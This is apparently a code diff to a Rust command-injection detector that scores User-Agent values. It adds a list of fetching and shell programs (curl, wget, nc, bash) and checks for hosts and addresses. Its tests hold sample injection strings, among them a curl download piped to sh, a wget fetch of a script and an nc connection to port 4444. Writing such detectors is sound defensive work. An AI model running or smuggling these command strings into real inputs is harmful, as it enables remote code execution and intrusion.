@@ -1,7 +1,7 @@
 //! OS command injection: a separator and a program, substitutions, redirections, and the ways to
 //! spell them past a filter. A value is matched as it came and with a shell's quoting undone.
 
-use super::builds::takes_commands;
+use super::builds::{spies, takes_commands};
 use super::commands::PATTERNS;
 use super::detector::{Detector, Report};
 use super::patterns::REACH;
@@ -29,6 +29,28 @@ const LISTED: f32 = 0.3;
 const WORDS: usize = 3;
 /// Most that a command is worth then: just enough to refuse. The model has the last word.
 const TOLD: f32 = 0.5;
+
+/// Programs that fetch or run what they are given.
+const FETCHING: [&[u8]; 18] = [
+    b"bash",
+    b"curl",
+    b"ftp",
+    b"lynx",
+    b"nc",
+    b"ncat",
+    b"node",
+    b"nslookup",
+    b"perl",
+    b"php",
+    b"ping",
+    b"python",
+    b"python3",
+    b"ruby",
+    b"sh",
+    b"telnet",
+    b"tftp",
+    b"wget",
+];
 
 /// The detector of this family.
 pub struct CommandInjection;
@@ -88,15 +110,46 @@ fn names_clients(agent: &[u8]) -> bool {
     memchr::memchr3(b'{', b'|', b'`', agent).is_none()
         && memmem::find(agent, b"$(").is_none()
         && !FOLDERS.iter().any(|f| memmem::find(agent, f).is_some())
+        && !spies(agent)
         && !pieces.any(is_given)
 }
 
-/// Tells a name in small letters that is given an option or an address: `curl -o x`.
+/// Tells a name in small letters that is given an option or an address, `curl -o x`, or a program that is
+/// given a place, `wget a.example/x`. Clients are named with their versions.
 fn is_given(piece: &[u8]) -> bool {
     let piece = piece.trim_ascii_start();
-    let name = piece.iter().take_while(|b| b.is_ascii_lowercase()).count();
-    let given = piece[name..].strip_prefix(b" ").unwrap_or_default();
-    name > 0 && (given.starts_with(b"-") || given.starts_with(b"http"))
+    let named = |b: &&u8| b.is_ascii_lowercase() || b.is_ascii_digit();
+    let (name, rest) = piece.split_at(piece.iter().take_while(named).count());
+    let given = rest.trim_ascii_start();
+    if !name.first().is_some_and(u8::is_ascii_lowercase) || given.len() == rest.len() {
+        return false;
+    }
+    given.starts_with(b"-")
+        || given.starts_with(b"http")
+        || FETCHING.contains(&name) && is_place(given)
+}
+
+/// Tells a path, a host, a file or an address at the start: `a.example/x`, `x.py`, `192.0.2.1 80`. No
+/// version is one, nor a product, `x/1.2`.
+fn is_place(given: &[u8]) -> bool {
+    let part = |b: &&u8| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_');
+    let (host, rest) = given.split_at(given.iter().take_while(part).count());
+    let last = host.rsplit(|b| *b == b'.').next().unwrap_or_default();
+    let dotted = last.len() < host.len();
+    let label = dotted && last.len() > 1 && last.iter().all(u8::is_ascii_alphabetic);
+    let path = match rest {
+        [b'/', first, ..] => !first.is_ascii_digit() || label,
+        [b'/'] => true,
+        _ => false,
+    };
+    path || label || is_number(host)
+}
+
+/// Tells an address by its four numbers. Versions that have four end in nought, or have larger ones.
+fn is_number(host: &[u8]) -> bool {
+    let text = std::str::from_utf8(host).unwrap_or_default();
+    let address: Result<std::net::Ipv4Addr, _> = text.parse();
+    address.is_ok_and(|address| address.octets()[3] != 0)
 }
 
 /// Tells a script of a page: all that is substituted is one of its own objects.
@@ -342,7 +395,32 @@ mod tests {
         assert!(agent("a$(sleep 5)") >= 0.5);
         assert!(agent("x;curl http://a.example/x -o y&&sh y") >= 0.5);
         assert!(agent("x; wget -O y a.example") >= 0.5);
-        assert!(agent("curl/8.5.0; php; node") < 0.5);
+        for text in [
+            "x;wget a.example/x",
+            "x;  wget\ta.example",
+            "curl/8.0;wget 192.0.2.1/x",
+            "x;nc 192.0.2.1 4444",
+            "x; ping 192.0.2.1",
+            "x&wget a.example/x.sh",
+            "x;python3 x.py",
+            "x;whoami",
+            "Mozilla/5.0 (X11; Linux x86_64); curl a.example",
+        ] {
+            assert!(agent(text) >= 0.5, "{text}");
+        }
+        for text in [
+            "curl/8.5.0; php; node",
+            "Guzzle/6.3; curl 7.68.0; php 7.4.3",
+            "Mozilla/5.0 (compatible; php 8.1; curl 8.5.0.0)",
+            "bot/1.0 (python 3.11; node 20.11.0; linux x86_64)",
+            "x; node curl/8.5.0",
+            "bot/1.0 (see a.example/bot; php 8.1)",
+            "check/2.1; host web-1.a.example",
+            "client; ruby 3.2.1p31; perl v5.34",
+            "Dalvik/2.1.0 (Linux; U; Android 9; ip phone)",
+        ] {
+            assert!(agent(text) < 0.5, "{text}");
+        }
     }
 
     #[test]
